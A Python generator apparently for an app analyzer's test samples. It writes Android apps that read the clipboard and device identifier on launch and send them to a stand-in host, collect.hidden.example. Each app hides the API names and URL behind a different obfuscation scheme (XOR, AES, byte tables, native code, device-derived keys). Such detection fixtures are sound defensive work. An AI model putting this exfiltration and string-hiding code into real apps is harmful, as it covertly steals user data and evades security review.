"""Write the sources of the samples whose texts are hidden behind decoders: python samples/hidden/make.py, then samples/build.py.

All apps do the same: as they open they read the clipboard and an identifier by names that do not stand in the package, and send
the text to a host that does not either. They differ in how the names are hidden, and twins in why the package cannot tell them.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from pathlib import Path

from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

HERE = Path(__file__).resolve().parent
TEXTS = ("clipboard", "android.content.ClipboardManager", "getPrimaryClip", "android_id", "https://collect.hidden.example/clip")
KEY = "k3y!"
_MASK = (1 << 64) - 1

MANIFEST = """<?xml version="1.0" encoding="utf-8"?>
<manifest xmlns:android="http://schemas.android.com/apk/res/android" package="org.apkvet.samples.hidden.{package}"
    android:versionCode="1" android:versionName="1.0">
    <uses-sdk android:minSdkVersion="23" android:targetSdkVersion="34" />
    <uses-permission android:name="android.permission.INTERNET" />
    <application android:label="{name}">
        <activity android:name=".MainActivity" android:exported="true">
            <intent-filter>
                <action android:name="android.intent.action.MAIN" />
                <category android:name="android.intent.category.LAUNCHER" />
            </intent-filter>
        </activity>
    </application>
</manifest>
"""
ACTIVITY = """package org.apkvet.samples.hidden.{package};

import android.app.Activity;
import android.provider.Settings;
import java.net.URL;
import java.net.URLConnection;

/** Reads the clipboard and an identifier by names that are hidden, and sends them to a host that is hidden. */
public class MainActivity extends Activity {{
    @Override
    protected void onResume() {{
        super.onResume();
        try {{
            Object service = getSystemService({0});
            Object clip = Class.forName({1}).getMethod({2}).invoke(service);
            String id = Settings.Secure.getString(getContentResolver(), {3});
            URLConnection connection = new URL({4}).openConnection();
            connection.getOutputStream().write((id + clip).getBytes());
        }} catch (Exception e) {{
            finish();
        }}
    }}
}}
"""


def quoted(text: str) -> str:
    """*text* as a literal of Java."""
    plain = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ +/=.:-_")
    return '"' + "".join(c if c in plain else f"\\{ord(c):03o}" for c in text) + '"'


def mixed(text: str, key: str = KEY) -> str:
    """*text*, each character with one of *key*."""
    return "".join(chr(ord(c) ^ ord(key[i % len(key)])) for i, c in enumerate(text))


def array(raw: bytes) -> str:
    """An array of bytes in Java."""
    return "new byte[] {" + ", ".join(str(byte - 256 if byte > 127 else byte) for byte in raw) + "}"


XOR = """
/** Characters, each mixed with one of a key. */
final class D {{
    private D() {{ }}

    static String d(String text) {{
        String key = {key};
        char[] out = new char[text.length()];
        for (int i = 0; i < out.length; i++) {{
            out[i] = (char) (text.charAt(i) ^ key.charAt(i % key.length()));
        }}
        return new String(out).intern();
    }}
}}
"""
CAESAR = """
/** Characters, each moved on by a number. */
final class D {{
    private D() {{ }}

    static String d(String text, int by) {{
        {before}StringBuilder out = new StringBuilder();
        for (int i = 0; i < text.length(); i++) {{
            out.append((char) (text.charAt(i) - by));
        }}
        return out.toString();
    }}
}}
"""
TABLE = """
/** Bytes in tables that the class fills as it is loaded, each text kept once it was made. */
final class D {{
    private static final byte[][] TABLE = {{
        {rows}
    }};
    private static final int[] KEY = {{113, -9, 86, 500001, 7}};
    private static final String[] KNOWN = new String[TABLE.length];

    private D() {{ }}

    static String d(int which) {{
        if (KNOWN[which] == null) {{
            byte[] raw = TABLE[which];
            char[] out = new char[raw.length];
            for (int i = 0; i < raw.length; i++) {{
                out[i] = (char) ((raw[i] ^ KEY[i % KEY.length] ^ which * 31) & 0x7f);
            }}
            KNOWN[which] = String.valueOf(out);
        }}
        return KNOWN[which];
    }}
}}
"""
NATIVE = """
/** Texts that a native library has. */
final class D {{
    static {{
        System.loadLibrary("texts");
    }}

    private D() {{ }}

    static native String d(int which);
}}
"""
CHUNKS = """
/** One long text for all; a number says where a text begins, how long it is and how it is mixed. */
final class D {{
    private static final String[] CHUNKS = {{{chunks}}};

    private D() {{ }}

    static String d(long id) {{
        long state = next(id & 0xffffffffL{more});
        int at = (int) (id >>> 48);
        int length = (int) (id >>> 32 & 0xffff);
        char[] out = new char[length];
        for (int i = 0; i < length; i++) {{
            state = next(state);
            out[i] = (char) (CHUNKS[(at + i) / 64].charAt((at + i) % 64) ^ (int) (state >>> 32 & 0x7f));
        }}
        return new String(out);
    }}

    private static long next(long state) {{
        state ^= state << 13;
        state ^= state >>> 7;
        return state * 0x2545f4914f6cdd1dL + 1;
    }}
}}
"""
BASE64 = """
import android.util.Base64;

/** Base64 of bytes that are mixed with a key. */
final class D {{
    static String key{key};

    private D() {{ }}

    static String d(String text) throws java.io.UnsupportedEncodingException {{
        byte[] raw = Base64.decode(text, 2);
        byte[] mix = key.getBytes("UTF-8");
        for (int i = 0; i < raw.length; i++) {{
            raw[i] = (byte) (raw[i] ^ mix[i % mix.length]);
        }}
        return new String(raw, "UTF-8");
    }}
}}
"""
FOG = """
/** Bytes and a key at each call, an object behind an interface that takes them apart. */
final class D {{
    interface Fog {{
        String decrypt(byte[] data, byte[] key);
    }}

    static final class Xor implements Fog {{
        {field}

        @Override
        public String decrypt(byte[] data, byte[] key) {{
            for (int i = 0, k = 0; i < data.length; i++, k++) {{
                if (k >= key.length) {{
                    k = 0;
                }}
                data[i] = (byte) (data[i] ^ key[k]{more});
            }}
            return new String(data, java.nio.charset.StandardCharsets.UTF_8);
        }}
    }}

    private static final Xor FOG = new Xor();

    private D() {{ }}

    static String d(byte[] data, byte[] key) {{
        return FOG.decrypt(data, key);
    }}
}}
"""
OBJECT = """
/** Characters turned round and moved on, by the only object of the class. */
final class D {{
    static final D INSTANCE = new D({key});
    private final int by;

    private D(int by) {{
        this.by = by;
    }}

    String d(String text) {{
        StringBuilder out = new StringBuilder(text);
        for (int i = 0; i < text.length(); i++) {{
            out.setCharAt(i, (char) (out.charAt(i) ^ by));
        }}
        return out.reverse().toString();
    }}
}}
"""
AES = """
import android.util.Base64;
import java.security.MessageDigest;
import javax.crypto.Cipher;
import javax.crypto.spec.IvParameterSpec;
import javax.crypto.spec.SecretKeySpec;

/** AES with a key that is made of a text. */
final class D {{
    private D() {{ }}

    static String d(String text) {{
        try {{
            byte[] key = MessageDigest.getInstance("MD5").digest({password}.getBytes("UTF-8"));
            byte[] raw = Base64.decode(text, 2);
            Cipher cipher = Cipher.getInstance("AES/CBC/PKCS5Padding");
            cipher.init(Cipher.DECRYPT_MODE, new SecretKeySpec(key, "AES"), new IvParameterSpec(new byte[16]));
            return new String(cipher.doFinal(raw), "UTF-8");
        }} catch (java.security.GeneralSecurityException | java.io.UnsupportedEncodingException e) {{
            return null;
        }}
    }}
}}
"""
PLAIN = """
/** Makes texts out of constants, and hides none. */
final class D {{
    private static final char[] DIGITS = "0123456789abcdef".toCharArray();

    private D() {{ }}

    static String hex(byte[] raw) {{
        char[] out = new char[2 * raw.length];
        for (int i = 0; i < raw.length; i++) {{
            out[2 * i] = DIGITS[raw[i] >> 4 & 0xf];
            out[2 * i + 1] = DIGITS[raw[i] & 0xf];
        }}
        return new String(out);
    }}

    static String title(String text) {{
        char[] out = text.toCharArray();
        out[0] = (char) (out[0] ^ 0x20);
        return new String(out);
    }}

    static String error(int code) {{
        switch (code) {{
            case 1: return "no network";
            case 2: return "no account";
            default: return "error " + (char) (code + 'a');
        }}
    }}

    static String path(String text) {{
        StringBuilder out = new StringBuilder();
        for (char c : text.toCharArray()) {{
            out.append(c == '.' ? '/' : (char) (c & 0xffff));
        }}
        return out.toString();
    }}
}}
"""
PLAIN_ACTIVITY = """package org.apkvet.samples.hidden.{package};

import android.app.Activity;
import android.util.Log;

/** Calls methods that make texts by arithmetic, with constants. */
public class MainActivity extends Activity {{
    @Override
    protected void onResume() {{
        super.onResume();
        Log.d("hex", D.hex(new byte[] {{1, 2, 3, 4}}) + D.hex(new byte[] {{10, 20, 30}}) + D.hex(new byte[] {{9, 8, 7}}));
        Log.d("title", D.title("welcome") + D.title("goodbye") + D.title("settings"));
        Log.d("error", D.error(1) + D.error(2) + D.error(3));
        Log.d("path", D.path("org.apkvet.samples") + D.path("java.lang.String") + D.path("android.app.Activity"));
    }}
}}
"""


def by_table(which: int) -> bytes:
    """The bytes of a text in the table."""
    key = (113, -9, 86, 500001, 7)
    return bytes((ord(c) ^ key[i % 5] ^ which * 31) & 0x7F for i, c in enumerate(TEXTS[which]))


def following(state: int) -> int:
    """The next state of the generator of ``chunks``."""
    state ^= (state << 13) & _MASK
    state ^= state >> 7
    return (state * 0x2545F4914F6CDD1D + 1) & _MASK


def in_chunks() -> tuple[str, list[str]]:
    """The one long text, and the calls."""
    whole, calls = "", []
    for number, text in enumerate(TEXTS):
        seed = 0x1234567 * (number + 3) & 0xFFFFFFFF
        calls.append(f"D.d({(len(whole) << 48 | len(text) << 32 | seed):#x}L)")
        state = following(seed)
        for c in text:
            state = following(state)
            whole += chr(ord(c) ^ (state >> 32 & 0x7F))
    return ", ".join(quoted(whole[at : at + 64]) for at in range(0, len(whole), 64)), calls


def by_aes(text: str) -> str:
    """*text* as AES makes it, in Base64."""
    import hashlib

    key = hashlib.md5(b"correct horse", usedforsecurity=False).digest()
    raw = text.encode()
    raw += bytes([16 - len(raw) % 16]) * (16 - len(raw) % 16)
    step = Cipher(algorithms.AES(key), modes.CBC(bytes(16))).encryptor()
    return base64.b64encode(step.update(raw) + step.finalize()).decode()


def samples() -> Iterator[tuple[str, str, list[str]]]:
    """Name, the decoder's source, and the calls of it."""
    by_xor = [f"D.d({quoted(mixed(text))})" for text in TEXTS]
    yield "xor", XOR.format(key=f'"{KEY}"'), by_xor
    yield "xor-device-key", XOR.format(key="android.os.Build.MODEL"), by_xor
    moved: Callable[[str], str] = lambda text: quoted("".join(chr(ord(c) + 7) for c in text))  # noqa: E731
    yield "caesar", CAESAR.format(before=""), [f"D.d({moved(text)}, 7)" for text in TEXTS]
    slow = "for (int i = 0; i < 100000000; i++) {\n            by ^= i & 1;\n        }\n        "
    strange: Callable[[str], str] = lambda text: quoted("".join(chr(ord(c) + 0x7F) for c in text))  # noqa: E731
    yield "caesar-endless", CAESAR.format(before=slow), [f"D.d({strange(text)}, 127)" for text in TEXTS]
    by_number = [f"D.d({which})" for which in range(len(TEXTS))]
    yield (
        "table",
        TABLE.format(rows=",\n        ".join("{" + array(by_table(i))[12:-1] + "}" for i in range(len(TEXTS)))),
        by_number,
    )
    yield "table-native", NATIVE.format(), by_number
    chunks, calls = in_chunks()
    yield "chunks", CHUNKS.format(chunks=chunks, more=""), calls
    by_stack = " ^ new Throwable().getStackTrace()[1].getMethodName().hashCode()"
    yield "chunks-stack", CHUNKS.format(chunks=chunks, more=by_stack), calls
    coded = [f'D.d("{base64.b64encode(mixed(text).encode()).decode()}")' for text in TEXTS]
    yield "base64", BASE64.format(key=f' = "{KEY}"'), coded
    yield "base64-set-key", BASE64.format(key=""), coded
    fogged = [f"D.d({array(mixed(text).encode())}, {array(KEY.encode())})" for text in TEXTS]
    yield "fog", FOG.format(field="private final int nothing = 0;", more=" ^ nothing"), fogged
    yield "fog-given-key", FOG.format(field="private final int nothing = android.os.Process.myUid();", more=" ^ nothing"), fogged
    turned = [f"D.INSTANCE.d({quoted(''.join(chr(ord(c) ^ 0x15) for c in reversed(text)))})" for text in TEXTS]
    yield "object", OBJECT.format(key="0x15"), turned
    yield "object-given-key", OBJECT.format(key="android.os.Process.myUid()"), turned
    ciphered = [f'D.d("{by_aes(text)}")' for text in TEXTS]
    yield "aes", AES.format(password='"correct horse"'), ciphered
    yield "aes-device-key", AES.format(password="android.os.Build.SERIAL"), ciphered


def write(name: str, decoder: str, activity: str) -> None:
    """The sources of one sample."""
    package = name.replace("-", "")
    source = HERE / "src" / name
    java = source / "java/org/apkvet/samples/hidden" / package
    java.mkdir(parents=True, exist_ok=True)
    (source / "AndroidManifest.xml").write_text(MANIFEST.format(package=package, name=name))
    (java / "D.java").write_text(f"package org.apkvet.samples.hidden.{package};\n{decoder}")
    (java / "MainActivity.java").write_text(activity)


def main() -> None:
    """Write all of them."""
    for name, decoder, calls in samples():
        activity = ACTIVITY.format(*calls, package=name.replace("-", ""))
        if name == "base64-set-key":  # what only this device knows, set before anything is decoded
            activity = activity.replace("        try {\n", "        D.key = android.os.Build.MODEL;\n        try {\n")
        write(name, decoder, activity)
    write("plain", PLAIN.format(), PLAIN_ACTIVITY.format(package="plain"))


if __name__ == "__main__":
    main()
